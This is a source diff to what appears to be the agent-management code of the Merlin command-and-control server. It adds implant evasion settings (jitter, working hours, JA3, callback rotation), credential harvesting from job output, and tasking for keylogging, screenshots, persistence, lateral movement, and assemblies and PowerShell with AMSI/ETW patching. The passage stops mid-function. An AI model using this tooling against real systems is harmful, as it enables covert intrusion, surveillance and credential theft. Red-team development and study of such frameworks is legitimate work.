@@ -43,9 +43,22 @@ import (
 	"go.dedis.ch/kyber"
 
 	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/api"
+	"github.com/Ne0nd0g/merlin/pkg/bof"
+	"github.com/Ne0nd0g/merlin/pkg/config"
 	"github.com/Ne0nd0g/merlin/pkg/core"
+	"github.com/Ne0nd0g/merlin/pkg/creds"
+	"github.com/Ne0nd0g/merlin/pkg/events"
+	"github.com/Ne0nd0g/merlin/pkg/highlight"
+	"github.com/Ne0nd0g/merlin/pkg/hosts"
 	"github.com/Ne0nd0g/merlin/pkg/logging"
 	"github.com/Ne0nd0g/merlin/pkg/messages"
+	"github.com/Ne0nd0g/merlin/pkg/redact"
+	"github.com/Ne0nd0g/merlin/pkg/scoring"
+	"github.com/Ne0nd0g/merlin/pkg/storage"
+	"github.com/Ne0nd0g/merlin/pkg/targets"
+	"github.com/Ne0nd0g/merlin/pkg/tools"
+	"github.com/Ne0nd0g/merlin/pkg/webhook"
 )
 
 // Global Variables
@@ -53,6 +66,12 @@ import (
 // Agents contains all of the instantiated agent object that are accessed by other modules
 var Agents = make(map[uuid.UUID]*agent)
 
+// forks maps the ID given to the second host of a cloned agent to the ID of the agent it was cloned from
+var forks = make(map[uuid.UUID]uuid.UUID)
+
+// sequenceWindow is the number of recent message sequence numbers kept for each agent to detect a cloned agent
+const sequenceWindow = 256
+
 type agent struct {
 	ID               uuid.UUID
 	Platform         string
@@ -61,9 +80,12 @@ type agent struct {
 	UserGUID         string
 	HostName         string
 	Ips              []string
+	Interpreters     []string
 	Pid              int
 	agentLog         *os.File
-	channel          chan []Job
+	queue            []Job          // The jobs that have not been sent, in the order they were queued; guarded by queueMutex
+	simulated        bool           // A demo mode agent that is not running on a real host and is never saved
+	sent             map[string]Job // Jobs sent to the agent that it has not returned results for, used for scoring
 	InitialCheckIn   time.Time
 	StatusCheckIn    time.Time
 	Version          string
@@ -73,8 +95,26 @@ type agent struct {
 	MaxRetry         int
 	FailedCheckin    int
 	Skew             int64
+	Jitter           int     // The most percent the agent's sleep is randomly shortened or lengthened
+	WorkingHours     string  // The hours, such as 0900-1700 Mon-Fri, the agent only checks in during; empty is any time
+	UTCOffset        int     // Seconds east of UTC of the agent host's time zone the working hours are in
+	DelayedAfter     float64 // Check in intervals the agent can miss before it is delayed; 0 uses the default
+	DeadAfter        float64 // Check in intervals the agent can miss before it is dead; 0 uses its max retries plus one
 	Proto            string
 	KillDate         int64
+	Callbacks        []string                       // The URLs the agent rotates its check ins across
+	Rotate           string                         // How long the agent uses a callback URL before moving to the next one
+	Pins             []string                       // The certificate public key pins the agent accepts from its listeners
+	JA3              string                         // The cipher suites and curves the agent offers in its TLS Client Hello
+	Crashes          []messages.Crash               // The most recent crash reports the agent sent, oldest first
+	Watermark        string                         // The decrypted build watermark, or why it could not be decrypted
+	ForkedFrom       uuid.UUID                      // The agent this agent was cloned from before it was given its own ID
+	Pending          bool                           // The agent registered while approval was required and was not accepted
+	Tags             []string                       // The groups the operator put the agent in, sorted
+	Listener         uuid.UUID                      // The listener the agent last checked in through since the server started
+	sequences        []uint32                       // The most recent message sequence numbers received from the agent
+	health           health                         // Transport reliability metrics used to diagnose a flaky agent
+	usage            usage                          // The resource usage and error counters the agent reports
 	RSAKeys          *rsa.PrivateKey                // RSA Private/Public key pair; Private key used to decrypt messages
 	PublicKey        rsa.PublicKey                  // Public key used to encrypt messages
 	secret           []byte                         // secret is used to perform symmetric encryption operations
@@ -119,6 +159,7 @@ func KeyExchange(m messages.Base) (messages.Base, error) {
 	}
 
 	Agents[m.ID].RSAKeys = privateKey
+	save(m.ID)
 
 	if core.Debug {
 		message("debug", fmt.Sprintf("Server's Public Key: %v", Agents[m.ID].RSAKeys.PublicKey))
@@ -187,11 +228,16 @@ func OPAQUERegistrationInit(m messages.Base, opaqueServerKey kyber.Scalar) (mess
 		return returnMessage, fmt.Errorf("there was an error creating a new agent instance for %s:\r\n%s", m.ID.String(), agentErr.Error())
 	}
 	agent.OPAQUEServerReg = *serverReg
+	agent.Pending = GetApproval()
 
 	// Add agent to global map
 	Agents[m.ID] = &agent
 
 	Log(m.ID, "Received agent OPAQUE register initialization message")
+	publish(events.NewAgent, m.ID, "New agent registered")
+	if agent.Pending {
+		Log(m.ID, "Agent is pending approval")
+	}
 
 	if core.Debug {
 		message("debug", "Leaving agents.OPAQUERegistrationInit function without error")
@@ -231,6 +277,7 @@ func OPAQUERegistrationComplete(m messages.Base) (messages.Base, error) {
 	if !bytes.Equal(m.ID.Bytes(), Agents[m.ID].OPAQUERecord.UserID) {
 		return returnMessage, fmt.Errorf("the OPAQUE UserID: %v doesn't match the Merlin UserID: %v", Agents[m.ID].OPAQUERecord.UserID, m.ID.Bytes())
 	}
+	save(m.ID)
 
 	Log(m.ID, "OPAQUE registration complete")
 
@@ -258,6 +305,7 @@ func OPAQUEAuthenticateInit(m messages.Base) (messages.Base, error) {
 	if !isAgent(m.ID) {
 		return returnMessage, fmt.Errorf("the %s agent has not OPAQUE registered", m.ID.String())
 	}
+	Agents[m.ID].health.authentications++
 
 	// 1 - Receive the user's UserAuthInit
 	serverKex := gopaque.NewKeyExchangeSigma(gopaque.CryptoDefault)
@@ -288,6 +336,7 @@ func OPAQUEAuthenticateInit(m messages.Base) (messages.Base, error) {
 
 	returnMessage.Payload = serverAuthCompleteBytes
 	Agents[m.ID].secret = []byte(serverKex.SharedSecret.String())
+	save(m.ID)
 
 	Log(m.ID, "Received new agent OPAQUE authentication initialization message")
 
@@ -314,7 +363,7 @@ func OPAQUEAuthenticateComplete(m messages.Base) (messages.Base, error) {
 
 	// check to see if this agent is already known to the server
 	if !isAgent(m.ID) {
-		return returnMessage, fmt.Errorf("%s is not a known agent", m.ID.String())
+		return returnMessage, api.Errorf(api.AgentNotFound, "%s is not a known agent", m.ID.String())
 	}
 
 	Log(m.ID, "Received agent OPAQUE authentication complete message")
@@ -332,6 +381,10 @@ func OPAQUEAuthenticateComplete(m messages.Base) (messages.Base, error) {
 	}
 
 	message("success", fmt.Sprintf("New authenticated agent checkin for %s at %s", m.ID.String(), time.Now().UTC().Format(time.RFC3339)))
+	if Agents[m.ID].Pending {
+		message("note", fmt.Sprintf("Agent %s is pending approval and can not be tasked until it is accepted with 'accept %s'",
+			m.ID, m.ID))
+	}
 	if core.Debug {
 		message("debug", "Leaving agents.OPAQUEAuthenticateComplete function without error")
 	}
@@ -355,6 +408,7 @@ func OPAQUEReAuthenticate(agentID uuid.UUID) (messages.Base, error) {
 	if !isAgent(agentID) {
 		return returnMessage, fmt.Errorf("the %s agent has not OPAQUE registered", agentID.String())
 	}
+	Agents[agentID].health.reAuths++
 
 	if core.Debug {
 		message("debug", "Leaving agents.OPAQUEReAuthenticate function without error")
@@ -405,20 +459,31 @@ func StatusCheckIn(m messages.Base) (messages.Base, error) {
 	}
 	if core.Debug {
 		message("debug", fmt.Sprintf("Received agent status checkin from %s", m.ID))
-		message("debug", fmt.Sprintf("Channel length: %d", len(Agents[m.ID].channel)))
-		message("debug", fmt.Sprintf("Channel content: %v", Agents[m.ID].channel))
+		message("debug", fmt.Sprintf("Queued jobs: %v", queuedJobs(m.ID)))
 	}
 
+	recordCheckIn(m.ID)
+	if h, ok := m.Payload.(messages.Health); ok {
+		recordUsage(m.ID, h)
+	}
 	Agents[m.ID].StatusCheckIn = time.Now().UTC()
-	// Check to see if there are any jobs
-	if len(Agents[m.ID].channel) >= 1 {
-		job := <-Agents[m.ID].channel
+	publish(events.CheckIn, m.ID, "Agent status check in")
+	killDateCheck()
+	barrierCheckIn(m.ID)
+	// Check to see if there are any jobs that are not embargoed or held by a barrier
+	if job, ok := nextJob(m.ID); ok {
 		if core.Debug {
-			message("debug", fmt.Sprintf("Channel command string: %s", job))
-			message("debug", fmt.Sprintf("Agent command type: %s", job[0].Type))
+			message("debug", fmt.Sprintf("Queued job: %v", job))
+			message("debug", fmt.Sprintf("Agent command type: %s", job.Type))
 		}
 
-		m, mErr := GetMessageForJob(m.ID, job[0])
+		m, mErr := GetMessageForJob(m.ID, job)
+		// The agent waits to run a barrier's job until every agent has received theirs
+		m.Delay = barrierSent(m.ID, job)
+		// Control messages do not return results with a job ID
+		if mErr == nil && m.Type != "AgentControl" {
+			Agents[m.ID].sent[job.ID] = job
+		}
 		return m, mErr
 	}
 	returnMessage := messages.Base{
@@ -440,7 +505,7 @@ func UpdateInfo(m messages.Base) error {
 
 	if !isAgent(m.ID) {
 		message("warn", "The agent was not found while processing an AgentInfo message")
-		return fmt.Errorf("%s is not a known agent", m.ID)
+		return api.Errorf(api.AgentNotFound, "%s is not a known agent", m.ID)
 	}
 	if core.Debug {
 		message("debug", "Processing new agent info")
@@ -459,21 +524,59 @@ func UpdateInfo(m messages.Base) error {
 	Log(m.ID, fmt.Sprintf("\tAgent Build: %s ", p.Build))
 	Log(m.ID, fmt.Sprintf("\tAgent waitTime: %s ", p.WaitTime))
 	Log(m.ID, fmt.Sprintf("\tAgent skew: %d ", p.Skew))
+	Log(m.ID, fmt.Sprintf("\tAgent jitter: %d%%", p.Jitter))
+	Log(m.ID, fmt.Sprintf("\tAgent working hours: %s", p.WorkingHours))
 	Log(m.ID, fmt.Sprintf("\tAgent paddingMax: %d ", p.PaddingMax))
 	Log(m.ID, fmt.Sprintf("\tAgent maxRetry: %d ", p.MaxRetry))
 	Log(m.ID, fmt.Sprintf("\tAgent failedCheckin: %d ", p.FailedCheckin))
 	Log(m.ID, fmt.Sprintf("\tAgent proto: %s ", p.Proto))
 	Log(m.ID, fmt.Sprintf("\tAgent KillDate: %s", time.Unix(p.KillDate, 0).UTC().Format(time.RFC3339)))
+	Log(m.ID, fmt.Sprintf("\tAgent Callbacks: %s", strings.Join(p.Callbacks, ", ")))
+	Log(m.ID, fmt.Sprintf("\tAgent Rotate: %s", p.Rotate))
+	Log(m.ID, fmt.Sprintf("\tAgent Pins: %s", strings.Join(p.Pins, ", ")))
+	Log(m.ID, fmt.Sprintf("\tAgent JA3: %s", p.JA3))
+	Log(m.ID, fmt.Sprintf("\tAgent Interpreters: %s", strings.Join(p.SysInfo.Interpreters, ", ")))
 
+	settingsMutex.Lock()
 	Agents[m.ID].Version = p.Version
 	Agents[m.ID].Build = p.Build
 	Agents[m.ID].WaitTime = p.WaitTime
 	Agents[m.ID].Skew = p.Skew
+	Agents[m.ID].Jitter = p.Jitter
+	Agents[m.ID].WorkingHours = p.WorkingHours
+	Agents[m.ID].UTCOffset = p.UTCOffset
 	Agents[m.ID].PaddingMax = p.PaddingMax
 	Agents[m.ID].MaxRetry = p.MaxRetry
 	Agents[m.ID].FailedCheckin = p.FailedCheckin
+	// A non-zero count is only sent once the agent has reconnected after failing to check in
+	Agents[m.ID].health.failures += p.FailedCheckin
 	Agents[m.ID].Proto = p.Proto
 	Agents[m.ID].KillDate = p.KillDate
+	Agents[m.ID].Callbacks = p.Callbacks
+	Agents[m.ID].Rotate = p.Rotate
+	Agents[m.ID].Pins = p.Pins
+	Agents[m.ID].JA3 = p.JA3
+	settingsMutex.Unlock()
+	updateWatermark(m.ID, p.Watermark)
+
+	if clonedFrom, ok := forks[m.ID]; ok {
+		delete(forks, m.ID)
+		Agents[m.ID].ForkedFrom = clonedFrom
+		note := fmt.Sprintf("Agent %s on host %s was forked from cloned agent %s", m.ID, p.SysInfo.HostName, clonedFrom)
+		message("note", note)
+		logging.Server(note)
+		Log(m.ID, note)
+		if isAgent(clonedFrom) {
+			Log(clonedFrom, note)
+			// The fork is the same implant, so it stays in the original agent's groups
+			Agents[m.ID].Tags = append([]string(nil), Agents[clonedFrom].Tags...)
+		}
+	}
+
+	// The process ID is only zero before the agent's first AgentInfo message
+	if Agents[m.ID].Pid == 0 {
+		moveCheckIn(m.ID, p.SysInfo)
+	}
 
 	Agents[m.ID].Architecture = p.SysInfo.Architecture
 	Agents[m.ID].HostName = p.SysInfo.HostName
@@ -482,6 +585,11 @@ func UpdateInfo(m messages.Base) error {
 	Agents[m.ID].Platform = p.SysInfo.Platform
 	Agents[m.ID].UserName = p.SysInfo.UserName
 	Agents[m.ID].UserGUID = p.SysInfo.UserGUID
+	Agents[m.ID].Interpreters = p.SysInfo.Interpreters
+	save(m.ID)
+	if err := hosts.AddAgent(m.ID.String(), p.SysInfo.HostName, p.SysInfo.Ips); err != nil {
+		message("warn", err.Error())
+	}
 
 	if core.Debug {
 		message("debug", "Leaving agents.UpdateInfo function")
@@ -489,17 +597,138 @@ func UpdateInfo(m messages.Base) error {
 	return nil
 }
 
+// IsClone records the message's sequence number and returns true if it was already received from the agent. A sequence
+// number is only repeated when the agent's process, including its ID and keys, was copied to and is running on another
+// host, such as when a virtual machine is cloned or restored from a snapshot.
+func IsClone(m messages.Base) bool {
+	if !isAgent(m.ID) || m.Sequence == 0 {
+		return false
+	}
+	for _, s := range Agents[m.ID].sequences {
+		if s == m.Sequence {
+			return true
+		}
+	}
+	Agents[m.ID].sequences = append(Agents[m.ID].sequences, m.Sequence)
+	if len(Agents[m.ID].sequences) > sequenceWindow {
+		Agents[m.ID].sequences = Agents[m.ID].sequences[1:]
+	}
+	return false
+}
+
+// ForkAgent alerts the operator that an agent is running on more than one host and returns a message instructing the
+// host that sent the duplicate message to register again with a new ID, so the two hosts are not interleaved in one
+// agent session. The duplicate message is not processed.
+func ForkAgent(m messages.Base, remoteAddr string) messages.Base {
+	newID := uuid.NewV4()
+	forks[newID] = m.ID
+
+	reason := fmt.Sprintf("message %d from %s was already received from agent %s", m.Sequence, remoteAddr, m.ID)
+	alert := fmt.Sprintf("Agent %s is running on more than one host; message %d from %s was a duplicate. "+
+		"Instructing that host to register again as agent %s", m.ID, m.Sequence, remoteAddr, newID)
+	message("warn", alert)
+	logging.Server(alert)
+	Log(m.ID, alert)
+
+	return messages.Base{
+		Version: 1.0,
+		ID:      m.ID,
+		Type:    "IdentityFork",
+		Payload: messages.IdentityFork{
+			ID:     newID,
+			Reason: reason,
+		},
+		Padding: core.RandStringBytesMaskImprSrc(Agents[m.ID].PaddingMax),
+	}
+}
+
+// updateWatermark decrypts the build watermark reported by an agent with the server's watermark key and alerts the
+// operator the first time it is seen or if it could not be attributed to an engagement
+func updateWatermark(agentID uuid.UUID, encrypted string) {
+	if encrypted == "" {
+		return
+	}
+	var watermark string
+	key, err := config.WatermarkKey(filepath.Join(core.CurrentDir, "data", "x509", "watermark.key"))
+	if err == nil {
+		var w config.Watermark
+		w, err = config.DecryptWatermark(encrypted, key)
+		watermark = w.String()
+	}
+	if err != nil {
+		watermark = fmt.Sprintf("unattributed (%s)", err.Error())
+	}
+	if watermark == Agents[agentID].Watermark {
+		return
+	}
+	Agents[agentID].Watermark = watermark
+	save(agentID)
+	Log(agentID, fmt.Sprintf("\tAgent Watermark: %s", watermark))
+	if err != nil {
+		message("warn", fmt.Sprintf("Agent %s has a watermark that could not be attributed: %s", agentID, err.Error()))
+		logging.Server(fmt.Sprintf("Agent %s has a watermark that could not be attributed: %s", agentID, err.Error()))
+		return
+	}
+	message("info", fmt.Sprintf("Agent %s watermark %s", agentID, watermark))
+}
+
 // Log is used to write log messages to the agent's log file
 func Log(agentID uuid.UUID, logMessage string) {
 	if core.Debug {
 		message("debug", "Entering into agents.Log")
 	}
+	logMessage = redact.String(logMessage)
+	logging.AddEvent(agentID.String(), logMessage)
 	_, err := Agents[agentID].agentLog.WriteString(fmt.Sprintf("[%s]%s\r\n", time.Now().UTC().Format(time.RFC3339), logMessage))
 	if err != nil {
 		message("warn", fmt.Sprintf("There was an error writing to the agent log agents.Log:\r\n%s", err.Error()))
 	}
 }
 
+// publish records a server event for the agent
+func publish(eventType string, agentID uuid.UUID, msg string) {
+	if err := events.Publish(eventType, agentID.String(), msg); err != nil {
+		message("warn", err.Error())
+	}
+}
+
+// harvest adds the credentials found in the output of an agent's job to the credential store
+func harvest(agentID uuid.UUID, job string, output string) {
+	found := creds.Parse(output)
+	if len(found) == 0 {
+		return
+	}
+	added, err := creds.Add(agentID.String(), Agents[agentID].HostName, found)
+	if err != nil {
+		message("warn", err.Error())
+		return
+	}
+	if len(added) > 0 {
+		m := fmt.Sprintf("Added %d credentials from job %s to the credential store", len(added), job)
+		message("success", m)
+		Log(agentID, m)
+	}
+}
+
+// discover adds the hosts found in the output of an agent's job, such as ipconfig, arp, or nmap output, to the host
+// inventory
+func discover(agentID uuid.UUID, job string, output string) {
+	found := hosts.Parse(output)
+	if len(found) == 0 {
+		return
+	}
+	added, err := hosts.Add(agentID.String(), found)
+	if err != nil {
+		message("warn", err.Error())
+		return
+	}
+	if len(added) > 0 {
+		m := fmt.Sprintf("Added %d hosts from job %s to the host inventory", len(added), job)
+		message("success", m)
+		Log(agentID, m)
+	}
+}
+
 // GetAgentList returns a list of agents that exist and is used for command line tab completion
 func GetAgentList() func(string) []string {
 	return func(line string) []string {
@@ -519,6 +748,15 @@ func ShowInfo(agentID uuid.UUID) {
 		return
 	}
 
+	var forkedFrom string
+	if Agents[agentID].ForkedFrom != uuid.Nil {
+		forkedFrom = Agents[agentID].ForkedFrom.String()
+	}
+	var listenerID string
+	if Agents[agentID].Listener != uuid.Nil {
+		listenerID = Agents[agentID].Listener.String()
+	}
+
 	table := tablewriter.NewWriter(os.Stdout)
 	table.SetAlignment(tablewriter.ALIGN_LEFT)
 
@@ -532,17 +770,29 @@ func ShowInfo(agentID uuid.UUID) {
 		{"Hostname", Agents[agentID].HostName},
 		{"Process ID", strconv.Itoa(Agents[agentID].Pid)},
 		{"IP", fmt.Sprintf("%v", Agents[agentID].Ips)},
+		{"Interpreters", strings.Join(Agents[agentID].Interpreters, ", ")},
 		{"Initial Check In", Agents[agentID].InitialCheckIn.Format(time.RFC3339)},
 		{"Last Check In", Agents[agentID].StatusCheckIn.Format(time.RFC3339)},
 		{"Agent Version", Agents[agentID].Version},
 		{"Agent Build", Agents[agentID].Build},
 		{"Agent Wait Time", Agents[agentID].WaitTime},
 		{"Agent Wait Time Skew", strconv.FormatInt(Agents[agentID].Skew, 10)},
+		{"Agent Wait Time Jitter", fmt.Sprintf("%d%%", Agents[agentID].Jitter)},
+		{"Agent Working Hours", workingHours(agentID)},
+		{"Status Thresholds", statusThresholds(agentID)},
 		{"Agent Message Padding Max", strconv.Itoa(Agents[agentID].PaddingMax)},
 		{"Agent Max Retries", strconv.Itoa(Agents[agentID].MaxRetry)},
 		{"Agent Failed Check In", strconv.Itoa(Agents[agentID].FailedCheckin)},
-		{"Agent Kill Date", time.Unix(Agents[agentID].KillDate, 0).UTC().Format(time.RFC3339)},
+		{"Agent Kill Date", killDate(agentID)},
 		{"Agent Communication Protocol", Agents[agentID].Proto},
+		{"Agent Callbacks", strings.Join(Agents[agentID].Callbacks, ", ")},
+		{"Agent Callback Rotation", Agents[agentID].Rotate},
+		{"Agent Certificate Pins", strings.Join(Agents[agentID].Pins, ", ")},
+		{"Agent TLS Client Hello", Agents[agentID].JA3},
+		{"Agent Watermark", Agents[agentID].Watermark},
+		{"Forked From", forkedFrom},
+		{"Tags", strings.Join(Agents[agentID].Tags, ", ")},
+		{"Listener", listenerID},
 	}
 	table.AppendBulk(data)
 	fmt.Println()
@@ -568,8 +818,20 @@ func message(level string, message string) {
 	}
 }
 
-// AddJob creates a job and adds it to the specified agent's channel and returns the Job ID or an error
+// AddJob creates a job and adds it to the specified agent's queued jobs and returns the Job ID or an error
 func AddJob(agentID uuid.UUID, jobType string, jobArgs []string) (string, error) {
+	return AddJobAfter(agentID, jobType, jobArgs, time.Time{})
+}
+
+// AddJobAfter creates a job for the agent that is embargoed until the after time; the agent does not receive the job
+// before then even if it checks in. A zero time sends the job on the agent's next check in.
+func AddJobAfter(agentID uuid.UUID, jobType string, jobArgs []string, after time.Time) (string, error) {
+	return AddJobPriority(agentID, jobType, jobArgs, after, PriorityNormal)
+}
+
+// AddJobPriority creates a job for the agent that is embargoed until the after time and sent ahead of the agent's
+// queued jobs with a lower priority
+func AddJobPriority(agentID uuid.UUID, jobType string, jobArgs []string, after time.Time, priority int) (string, error) {
 	// TODO turn this into a method of the agent struct
 	if core.Debug {
 		message("debug", fmt.Sprintf("In agents.AddJob function for agent: %s", agentID.String()))
@@ -577,41 +839,57 @@ func AddJob(agentID uuid.UUID, jobType string, jobArgs []string) (string, error)
 		message("debug", fmt.Sprintf("In agents.AddJob function for command: %s", jobArgs))
 	}
 
+	// A pending agent can only be killed, such as when it is an unknown binary that should not be connecting
+	if isAgent(agentID) && jobType != "kill" {
+		if err := canTask(agentID); err != nil {
+			return "", err
+		}
+	}
+	// A killdate can be written as a date in any time zone; the agent is sent its Unix time
+	if jobType == "killdate" && len(jobArgs) > 1 {
+		epoch, err := ParseKillDate(agentID, strings.Join(jobArgs[1:], " "))
+		if err != nil {
+			return "", api.Wrap(api.InvalidOption, err)
+		}
+		jobArgs = []string{jobArgs[0], strconv.FormatInt(epoch, 10)}
+	}
 	if isAgent(agentID) || agentID.String() == "ffffffff-ffff-ffff-ffff-ffffffffffff" {
 		job := Job{
-			Type:    jobType,
-			Status:  "created",
-			Args:    jobArgs,
-			Created: time.Now().UTC(),
+			Type:     jobType,
+			Status:   "created",
+			Args:     jobArgs,
+			Created:  time.Now().UTC(),
+			After:    after,
+			Priority: priority,
 		}
 
 		if agentID.String() == "ffffffff-ffff-ffff-ffff-ffffffffffff" {
-			if len(Agents) <= 0 {
-				return "", errors.New("there are 0 available agents, no jobs were created")
-			}
+			// Every agent that has been accepted
+			var all []uuid.UUID
 			for k := range Agents {
-				s := Agents[k].channel
-				job.ID = core.RandStringBytesMaskImprSrc(10)
-				s <- []Job{job}
-				Log(k, fmt.Sprintf("Created job Type:%s, ID:%s, Status:%s, Args:%s",
-					job.Type,
-					job.ID,
-					job.Status,
-					job.Args))
+				if !Agents[k].Pending {
+					all = append(all, k)
+				}
+			}
+			ids, err := AddGroupJobs(all, []Job{job})
+			if err != nil {
+				return "", err
 			}
-			return job.ID, nil
+			return ids[all[0]][0], nil
 		}
 		job.ID = core.RandStringBytesMaskImprSrc(10)
-		s := Agents[agentID].channel
-		s <- []Job{job}
+		queueJob(agentID, job)
 		Log(agentID, fmt.Sprintf("Created job Type:%s, ID:%s, Status:%s, Args:%s",
 			job.Type,
 			job.ID,
 			job.Status,
 			job.Args))
+		if !job.After.IsZero() {
+			Log(agentID, fmt.Sprintf("Job %s is embargoed until %s", job.ID, job.After.UTC().Format(time.RFC3339)))
+		}
 		return job.ID, nil
 	}
-	return "", errors.New("invalid agent ID")
+	return "", api.Errorf(api.AgentNotFound, "%s is not a known agent", agentID)
 }
 
 // GetMessageForJob returns a Message Base structure for the provided job type
@@ -621,7 +899,7 @@ func GetMessageForJob(agentID uuid.UUID, job Job) (messages.Base, error) {
 		ID:      agentID,
 	}
 	if !isAgent(agentID) {
-		return m, fmt.Errorf("%s is not a valid agent", agentID.String())
+		return m, api.Errorf(api.AgentNotFound, "%s is not a valid agent", agentID)
 	}
 	m.Padding = core.RandStringBytesMaskImprSrc(Agents[agentID].PaddingMax)
 	switch job.Type {
@@ -749,7 +1027,7 @@ func GetMessageForJob(agentID uuid.UUID, job Job) (messages.Base, error) {
 			p.Args = job.Args[1]
 		}
 		m.Payload = p
-	case "sleep":
+	case "sleep", "jitter", "workinghours", "callbacks", "pins", "psk", "ja3":
 		m.Type = "AgentControl"
 		p := messages.AgentControl{
 			Command: job.Args[0],
@@ -768,6 +1046,182 @@ func GetMessageForJob(agentID uuid.UUID, job Job) (messages.Base, error) {
 			Args:    job.Args,
 		}
 		m.Payload = p
+	case "python", "node", "osascript":
+		m.Type = "Script"
+		if len(job.Args) < 2 {
+			return m, fmt.Errorf("the %s job requires a script type and a script", job.Type)
+		}
+		p := messages.Script{
+			Job:         job.ID,
+			Interpreter: job.Type,
+			Script:      job.Args[1],
+		}
+		// Read the script from a file on the server at the time the job is sent
+		if job.Args[0] == "file" {
+			script, err := ioutil.ReadFile(job.Args[1])
+			if err != nil {
+				return m, fmt.Errorf("there was an error reading the script file %s:\r\n%s", job.Args[1], err.Error())
+			}
+			p.Script = string(script)
+		}
+		m.Payload = p
+	case "wasm":
+		// Args are the module file path, capabilities, timeout, followed by the arguments for the module
+		m.Type = "WasmTask"
+		if len(job.Args) < 3 {
+			return m, errors.New("the wasm job requires a module file, capabilities, and a timeout")
+		}
+		module, err := ioutil.ReadFile(job.Args[0])
+		if err != nil {
+			return m, fmt.Errorf("there was an error reading the WebAssembly module %s:\r\n%s", job.Args[0], err.Error())
+		}
+		timeout, err := time.ParseDuration(job.Args[2])
+		if err != nil {
+			return m, fmt.Errorf("there was an error parsing the wasm timeout %s:\r\n%s", job.Args[2], err.Error())
+		}
+		p := messages.WasmTask{
+			Job:     job.ID,
+			Module:  base64.StdEncoding.EncodeToString(module),
+			Args:    job.Args[3:],
+			Timeout: timeout,
+		}
+		if job.Args[1] != "" {
+			p.Capabilities = strings.Split(job.Args[1], ",")
+		}
+		Log(agentID, fmt.Sprintf("Sending WebAssembly module %s of size %d bytes with capabilities %v to agent",
+			job.Args[0], len(module), p.Capabilities))
+		m.Payload = p
+	case "bof":
+		// Args are the object file path followed by the BOF's typed arguments
+		m.Type = "BOF"
+		if len(job.Args) < 1 {
+			return m, errors.New("the bof job requires an object file")
+		}
+		object, err := ioutil.ReadFile(job.Args[0])
+		if err != nil {
+			return m, fmt.Errorf("there was an error reading the BOF %s:\r\n%s", job.Args[0], err.Error())
+		}
+		args, err := bof.Pack(job.Args[1:])
+		if err != nil {
+			return m, err
+		}
+		Log(agentID, fmt.Sprintf("Sending BOF %s of size %d bytes to agent with %d bytes of arguments", job.Args[0],
+			len(object), len(args)))
+		m.Payload = messages.BOF{
+			Job:    job.ID,
+			Object: base64.StdEncoding.EncodeToString(object),
+			Args:   base64.StdEncoding.EncodeToString(args),
+		}
+	case "firewall":
+		// Args are the action, list, add, or delete, followed by the rule's name, protocol, port, direction, and remote
+		// address
+		m.Type = "Firewall"
+		f, err := ParseFirewall(agentID, job.Args)
+		if err != nil {
+			return m, err
+		}
+		f.Job = job.ID
+		m.Payload = f
+	case "move":
+		// Args are the method, host, credential ID, and payload type followed by the payload file and remote path or
+		// the command
+		m.Type = "Move"
+		p, err := moveMessage(agentID, job)
+		if err != nil {
+			return m, err
+		}
+		m.Payload = p
+	case "persist":
+		// Args are the action, add or remove, followed by its method, name, and command
+		m.Type = "Persist"
+		p, err := ParsePersist(agentID, job.Args)
+		if err != nil {
+			return m, err
+		}
+		p.Job = job.ID
+		m.Payload = p
+	case "selfdestruct":
+		// The agent removes the persistence the server recorded and the paths in its cleanup manifest before it exits
+		m.Type = "SelfDestruct"
+		p, err := selfDestructMessage(agentID, job)
+		if err != nil {
+			return m, err
+		}
+		m.Payload = p
+	case "powershell", "powerpick":
+		// Args are the AMSI and ETW patch flags for powershell or the parent process ID for powerpick, followed by
+		// the script type and the script
+		m.Type = "PowerShell"
+		if len(job.Args) < 3 || (job.Type == "powershell" && len(job.Args) < 4) {
+			return m, fmt.Errorf("the %s job requires its options, a script type, and a script", job.Type)
+		}
+		p := messages.PowerShell{Job: job.ID, Method: "runspace"}
+		if job.Type == "powerpick" {
+			ppid, err := strconv.ParseUint(job.Args[0], 10, 32)
+			if err != nil {
+				return m, fmt.Errorf("%s is not a valid parent process ID", job.Args[0])
+			}
+			p.Method, p.PPID = "powerpick", uint32(ppid)
+			job.Args = job.Args[1:]
+		} else {
+			p.AMSI, p.ETW = job.Args[0] == "true", job.Args[1] == "true"
+			job.Args = job.Args[2:]
+		}
+		p.Script = job.Args[1]
+		// Read the script from a file on the server at the time the job is sent
+		if job.Args[0] == "file" {
+			script, err := ioutil.ReadFile(job.Args[1])
+			if err != nil {
+				return m, fmt.Errorf("there was an error reading the script file %s:\r\n%s", job.Args[1], err.Error())
+			}
+			p.Script = string(script)
+		}
+		m.Payload = p
+	case "execute-assembly":
+		// Args are the assembly file path, AppDomain name, AMSI and ETW patch flags, followed by the assembly's arguments
+		m.Type = "Assembly"
+		if len(job.Args) < 4 {
+			return m, errors.New("the execute-assembly job requires an assembly file, AppDomain name, and patch options")
+		}
+		assembly, err := ioutil.ReadFile(job.Args[0])
+		if err != nil {
+			return m, fmt.Errorf("there was an error reading the assembly %s:\r\n%s", job.Args[0], err.Error())
+		}
+		p := messages.Assembly{
+			Job:       job.ID,
+			Assembly:  base64.StdEncoding.EncodeToString(assembly),
+			Args:      job.Args[4:],
+			AppDomain: job.Args[1],
+			AMSI:      job.Args[2] == "true",
+			ETW:       job.Args[3] == "true",
+		}
+		Log(agentID, fmt.Sprintf("Sending .NET assembly %s of size %d bytes to agent with arguments %v", job.Args[0],
+			len(assembly), p.Args))
+		m.Payload = p
+	case "zip", "unzip":
+		m.Type = "Archive"
+		p, err := ParseArchive(job.Type, job.Args)
+		if err != nil {
+			return m, err
+		}
+		p.Job = job.ID
+		m.Payload = p
+	case "find", "grep":
+		m.Type = "Search"
+		p, err := ParseSearch(job.Type, job.Args)
+		if err != nil {
+			return m, err
+		}
+		p.Job = job.ID
+		m.Payload = p
+	case "sessions-enum", "loggedon", "screenshot", "keylog":
+		m.Type = "Module"
+		p := messages.Module{
+			Command: job.Type,
+			Job:     job.ID,
+			Args:    job.Args,
+		}
+		m.Payload = p
 	case "upload":
 		m.Type = "FileTransfer"
 		// TODO add error handling; check 2 args (src, dst)
@@ -794,6 +1248,41 @@ func GetMessageForJob(agentID uuid.UUID, job Job) (messages.Base, error) {
 			Job:          job.ID,
 		}
 		m.Payload = p
+	case "tunnel":
+		m.Type = "Tunnel"
+		m.Payload = messages.Tunnel{Job: job.ID, Command: "start"}
+	case "shell":
+		m.Type = "Shell"
+		m.Payload = messages.Shell{Job: job.ID, Command: "start"}
+	case "fetch-tool":
